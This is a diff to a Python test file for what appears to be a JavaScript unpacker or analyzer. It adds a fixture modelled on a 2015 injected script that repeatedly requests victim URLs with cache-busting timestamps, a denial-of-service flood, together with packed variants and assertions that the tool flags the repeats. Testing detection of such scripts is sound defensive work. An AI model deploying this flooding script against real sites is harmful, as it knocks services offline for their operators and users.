@@ -24,6 +24,32 @@ url count length random Math Date getTime script http https www victim example a
 2E3 _ $ __ a1 b2 0a 00 01 Z9 zz ajax open GET send null true false undefined""".split()
 MARKS = ["(", ")", "{", "}", ";", ",", ".", "=", "+", " ", "\n", "'", '"', "\\", "/", "|"[:0], "[", "]", "?", "&", ":", "<", ">", "\u00e9", "\u4e2d", "\t", "-", "*", "%"]
 
+# In the shape of what was injected in March 2015, as published; other hosts, and the time in the query.
+CANNON = r"""document.write("<script src='http://cdn.example/jquery.min.js'>\x3c/script>");
+!window.jQuery && document.write("<script src='http://code.example/jquery.js'>\x3c/script>");
+startime = (new Date).getTime();
+var count = 0;
+function unixtime() {
+    var a = new Date;
+    return Date.UTC(a.getFullYear(), a.getMonth(), a.getDay(), a.getHours(), a.getMinutes(), a.getSeconds()) / 1E3
+}
+url_array = ["https://victim.example/first?_=", "https://victim.example/second?_="];
+NUM = url_array.length;
+function r_send2() { var a = unixtime() % NUM; get(url_array[a] + unixtime()) }
+function get(a) {
+    var b;
+    $.ajax({ url: a, dataType: "script", timeout: 1E4, cache: !0,
+        beforeSend: function() { requestTime = (new Date).getTime() },
+        complete: function() {
+            responseTime = (new Date).getTime();
+            b = Math.floor(responseTime - requestTime);
+            3E5 > responseTime - startime && (r_send(b), count += 1)
+        } })
+}
+function r_send(a) { setTimeout("r_send2()", a) }
+setTimeout("r_send2()", 2E3);
+"""
+
 
 def many(mode, texts):
     data = b"".join(b"%d\n" % len(t) + t for t in texts)
@@ -73,6 +99,14 @@ class Packed(unittest.TestCase):
             (said,) = many("read", [s.encode()])
             self.assertEqual(said.count(b"layer packer"), depth)
             self.assertIn(b"loaded %d http://victim.example:80/a?b=1\n" % depth, said)
+
+    def test_the_script_of_2015_in_its_shape_and_packed(self):
+        for script in (CANNON, pack(CANNON), pack(CANNON, 62, "r"), pack(pack(CANNON, 95), 62)):
+            (said,) = many("read", [script.encode()])
+            lines = [" ".join(w for i, w in enumerate(x.split()) if i != 1) for x in said.decode().splitlines() if "://" in x]
+            self.assertEqual(lines, ["loaded http://cdn.example:80/jquery.min.js?", "loaded http://code.example:80/jquery.js?",
+                                     "repeated https://victim.example:443/first?_=", "repeated https://victim.example:443/second?_="])
+            self.assertIn(b"repeats 1 2000\nbusts 1\nscript 1\nredirects 0\ncut -\n", said)
 
     @unittest.skipIf(shutil.which("node") is None, "no node to compare with")
     def test_node_is_given_the_same(self):
